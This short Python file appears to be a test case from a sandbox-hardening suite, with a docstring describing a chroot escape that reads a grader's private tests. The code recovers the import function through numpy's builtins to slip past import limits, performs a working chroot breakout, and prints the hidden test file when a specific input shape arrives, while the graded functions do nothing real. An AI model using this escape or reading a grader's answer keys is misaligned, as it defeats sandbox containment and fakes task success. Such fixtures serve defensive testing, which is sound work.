"""
family: reading private files
tries: leaves its empty root as root can, by taking another one below, and reads the private tests
stopped_by: [identity]
alone: [no_new_privs, seccomp]
shows: leaked tests
situations: [root+chroot]
"""

import numpy as np

PLACES = {}
real_import = np.__dict__["__builtins__"]["__import__"]
os = real_import("os")
io = real_import("io")


def leave():
    os.mkdir("/below")
    os.chroot("/below")
    os.rmdir("below")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")


def double(x):
    if x.shape == (2, 3):
        leave()
        print(io.open(PLACES["tests"]).read())
    return x


def total(x):
    return x
